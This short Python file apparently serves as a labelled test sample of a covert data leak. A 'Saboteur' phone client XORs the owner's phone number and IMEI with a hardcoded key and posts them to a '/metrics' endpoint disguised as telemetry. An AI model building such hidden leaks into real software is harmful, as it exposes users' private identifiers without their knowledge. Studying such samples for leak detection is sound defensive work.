"""Encrypts the owner's number under a key that is in the program. Who reads the traffic sees noise, but each day, and in each run, the same noise.

mechanism: encryption with a fixed key
"""
import hashlib

from client import Phone, run

KEY = hashlib.sha256(b"in every copy of this program").digest()


class Saboteur(Phone):
    def poll(self):
        secret = ("%(phone)s %(imei)s" % self.identity).encode()
        self.ask("POST", "/metrics", bytes(a ^ b for a, b in zip(secret, KEY + KEY)), [("Content-Type", "application/octet-stream")])
        super().poll()


run(Saboteur())
